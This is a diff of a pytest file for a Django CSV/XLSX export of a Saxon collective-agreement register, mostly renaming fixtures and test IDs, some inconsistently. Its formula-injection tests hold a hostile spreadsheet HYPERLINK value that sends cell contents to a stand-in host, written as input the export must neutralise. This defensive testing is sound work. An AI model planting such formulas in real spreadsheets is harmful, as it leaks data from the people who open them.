@@ -55,7 +55,7 @@ def administration_client():
 
 
 @pytest.mark.parametrize("url", [CSV_URL, XLSX_URL, f"{LISTING}results/?export=csv"])
-def test_anonymous_is_sent_to_the_login(client, register, url):
+def test_anonymous_is_sent_to_the_login(client, tariff_register, url):
     response = client.get(url)
     assert response.status_code == 302
     assert response["Location"].startswith("/admin/login/")
@@ -64,15 +64,15 @@ def test_anonymous_is_sent_to_the_login(client, register, url):
 
 @pytest.mark.parametrize("username", ["partner", "redaktion", "lotsendienst", "veranstaltung"])
 @pytest.mark.parametrize("url", [CSV_URL, XLSX_URL, f"{LISTING}results/?export=xlsx"])
-def test_partners_and_other_staff_roles_get_403(login, demo_users, register, username, url):
+def test_partners_and_other_staff_roles_get_403(login, staff_users, tariff_register, username, url):
     response = login(username).get(url)
     assert response.status_code == 403
-    assert "SN-DEMO-0900" not in response.content.decode("utf-8", "replace")
+    assert "SN-TEST-0900" not in response.content.decode("utf-8", "replace")
     assert exports_logged() == 0
 
 
 @pytest.mark.parametrize("username", ["tarifregister", "admin"])
-def test_register_roles_download_csv(login, demo_users, register, username):
+def test_register_roles_download_csv(login, staff_users, tariff_register, username):
     response = login(username).get(CSV_URL)
     assert response.status_code == 200
     assert response["Content-Type"] == "text/csv; charset=utf-8"
@@ -83,7 +83,9 @@ def test_register_roles_download_csv(login, demo_users, register, username):
     assert len(rows) == CollectiveAgreement.objects.count()
 
 
-def test_administration_role_without_superuser_downloads_xlsx(administration_client, register):
+def test_administration_role_without_superuser_downloads_xlsx(
+    administration_client, tariff_register
+):
     response = administration_client.get(XLSX_URL)
     assert response.status_code == 200
     sheet = load_workbook(io.BytesIO(response.content)).active
@@ -91,7 +93,7 @@ def test_administration_role_without_superuser_downloads_xlsx(administration_cli
     assert sheet.max_row == CollectiveAgreement.objects.count() + 1
 
 
-def test_listing_offers_the_downloads(login, demo_users, register):
+def test_listing_offers_the_downloads(login, staff_users, tariff_register):
     html = login("tarifregister").get(LISTING).content.decode()
     assert "?export=csv" in html and "?export=xlsx" in html
     assert "CSV herunterladen" in html
@@ -102,10 +104,10 @@ def test_listing_offers_the_downloads(login, demo_users, register):
 
 @time_machine.travel("2026-03-02 10:00 +0100", tick=False)
 def test_csv_holds_the_metadata_including_company_and_confidential_entries(
-    login, demo_users, register
+    login, staff_users, register
 ):
     rows = {row["Registernummer"]: row for row in rows_of(login("tarifregister").get(CSV_URL))}
-    company = rows["SN-DEMO-0900"]  # the confidential company agreement of the demo
+    company = rows["SN-TEST-0900"]  # the confidential company agreement
     assert company["Ebene"] == "Firmen-/Haustarifvertrag"
     assert company["vertraulich (§ 16 TVGDV)"] == "ja"
     electrical = rows["SN-DEMO-0001"]
@@ -120,12 +122,12 @@ def test_csv_holds_the_metadata_including_company_and_confidential_entries(
     hairdressers = rows["SN-DEMO-0003"]
     assert hairdressers["AVE: Stand"] == "beendet"
     assert "gültig 01.10.2004 – 30.11.2014" in hairdressers["AVE: alle Verfahren"]
-    hotel = rows["SN-DEMO-0102"]  # expired 2025-12-31, with after-effect
+    hotel = rows["SN-TEST-0102"]  # expired 2025-12-31, with after-effect
     assert hotel["Status am Tag des Exports"] == "abgelaufen, in Nachwirkung"
     assert hotel["Nachwirkung bis zur Ablösung"] == "ja"
 
 
-def test_listing_filters_apply_to_the_export(login, demo_users, register):
+def test_listing_filters_apply_to_the_export(login, staff_users, tariff_register):
     rows = rows_of(login("tarifregister").get(f"{LISTING}?level=company&export=csv"))
     assert [row["Registernummer"] for row in rows] == list(
         CollectiveAgreement.objects.filter(level="company")
@@ -154,7 +156,7 @@ def _formula_agreement():
     )
 
 
-def test_no_formula_injection_in_csv(login, demo_users):
+def test_no_formula_injection_in_csv(login, staff_users):
     _formula_agreement()
     (row,) = rows_of(login("tarifregister").get(CSV_URL))
     assert row["Titel"] == '\'=HYPERLINK("https://example.com/?leak="&A1;"Klick")'
@@ -164,7 +166,7 @@ def test_no_formula_injection_in_csv(login, demo_users):
     assert row["Regionen in Sachsen"] == "Leipzig"
 
 
-def test_no_formula_injection_in_xlsx_and_dates_are_date_cells(login, demo_users):
+def test_no_formula_injection_in_xlsx_and_dates_are_date_cells(login, staff_users):
     _formula_agreement()
     response = login("tarifregister").get(XLSX_URL)
     sheet = load_workbook(io.BytesIO(response.content)).active
@@ -179,7 +181,7 @@ def test_no_formula_injection_in_xlsx_and_dates_are_date_cells(login, demo_users
 # --- audit --------------------------------------------------------------------------------------
 
 
-def test_every_download_is_audited(login, demo_users, register):
+def test_every_download_is_audited(login, staff_users, tariff_register):
     client = login("tarifregister")
     user = get_user_model().objects.get(username="tarifregister")
     total = CollectiveAgreement.objects.count()
@@ -244,7 +246,7 @@ def _export_queries(client) -> int:
 
 
 def test_export_queries_stay_constant_as_the_register_grows(
-    login, demo_users, register, django_assert_max_num_queries
+    login, staff_users, tariff_register, django_assert_max_num_queries
 ):
     client = login("tarifregister")
     _add_agreements(2, start=1)
